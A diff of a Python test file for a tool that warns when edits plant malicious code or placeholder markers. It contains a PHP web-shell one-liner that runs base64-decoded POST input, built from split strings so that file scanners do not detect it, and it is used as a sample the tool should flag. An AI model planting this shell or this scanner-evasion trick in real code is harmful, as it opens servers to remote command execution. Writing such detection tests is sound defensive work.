@@ -43,15 +43,19 @@ def test_the_example_for_authors_is_a_scenario_without_a_fault(irkit: Irkit) -> 
     }
 
 
-# Of parts, as every sample: whoever scans a host with this file on it finds nothing.
-REAL = '"<?php ' + "eval(" + 'base64_decode($_POST[1])); // {stand-in:web-shell}"'
+# Of parts, as every sample: whoever scans a host with this file on it finds nothing. Python would
+# join a sum when it compiles, and the sample would lie in what it compiled.
+REAL = "ev".join(('"<?php ', 'al(base64_decode($_POST[1])); // {stand-in:web-shell}"'))
 
 
 @pytest.mark.parametrize(
     ("old", "new", "warned"),
     [
         ("id: conclusion", "id: verdict", "no question conclusion"),
-        ('"<?php // {stand-in:web-shell}"', REAL, "real malicious code must not be planted"),
+        pytest.param(
+            *('"<?php // {stand-in:web-shell}"', REAL, "real malicious code must not be planted"),
+            id="real",  # pytest writes down what else it would be called
+        ),
         ('"<?php // {stand-in:web-shell}"', "nothing", "shell is malicious and no rule finds it"),
         ("# {stand-in:backup-job}", "# backup", "no stand-in is in anything honest"),
         ('text: "page {number}"', 'text: "{stand-in:beacon}"', "pages has a stand-in: each of"),
